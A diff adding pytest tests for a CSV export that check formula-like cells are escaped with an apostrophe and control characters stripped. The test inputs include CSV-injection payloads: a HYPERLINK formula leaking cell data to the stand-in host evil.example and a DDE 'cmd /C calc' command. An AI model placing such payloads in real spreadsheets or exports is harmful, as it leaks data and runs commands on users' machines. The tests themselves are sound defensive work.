@@ -89,6 +89,36 @@ def test_a_cell_that_looks_like_a_formula_is_neutralised(client):
     assert by_id["phone"]["purpose"] == "+44 151 000 0000"
 
 
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@pytest.mark.parametrize("formula", [EVIL, "+cmd|' /C calc'!A0", "@SUM(A1)", "-1+2"])
+def test_list_cells_that_start_with_a_formula_are_neutralised(client, formula):
+    """A responsible person or a lead organisation whose name is a formula: the cell that
+    lists them starts with it, and is kept as text like every other cell."""
+    from tests.factories import OrganisationFactory, PublishedProjectFactory
+
+    project = PublishedProjectFactory(
+        slug="formula-lists", with_organisation=OrganisationFactory(name=formula), with_people=False
+    )
+    project.responsible_people.create(
+        name=formula, job_title="Lead", organisation="X", contact="a@example.org", duties=[]
+    )
+    row = rows(download(client))[0]
+    for key in ("organisations", "responsible_people"):
+        assert row[key].startswith("'" + formula), key
+    assert all(not cell.startswith(("=", "+", "@", "-")) for cell in row.values())
+
+
+def test_stored_control_characters_never_break_the_csv(client):
+    from tests.factories import PublishedProjectFactory
+
+    PublishedProjectFactory(slug="controls", title="Bell\x07 and \x1b escape")
+    response = download(client)
+    assert response.status_code == 200
+    assert rows(response)[0]["title"] == "Bell and  escape"
+
+
 def test_an_empty_register_is_a_header_row(client):
     text = download(client).content.decode("utf-8-sig")
     assert text.count("\r\n") == 1
